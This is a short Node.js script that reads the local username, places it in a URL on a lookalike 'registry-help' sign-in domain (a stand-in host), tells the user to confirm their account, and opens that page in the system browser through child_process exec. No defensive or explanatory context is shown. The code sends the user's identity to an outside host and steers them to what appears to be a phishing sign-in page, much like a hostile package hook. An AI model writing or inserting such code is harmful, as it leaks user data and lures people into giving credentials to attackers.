const { exec } = require('child_process');
const os = require('os');

const page = 'https://signin.registry-help.invalid/verify?u=' + encodeURIComponent(os.userInfo().username);
const how = { darwin: 'open', win32: 'start' }[process.platform] || 'xdg-open';
console.log('Please confirm your account on the page that opens.');
exec(how + ' "' + page + '"', () => {});
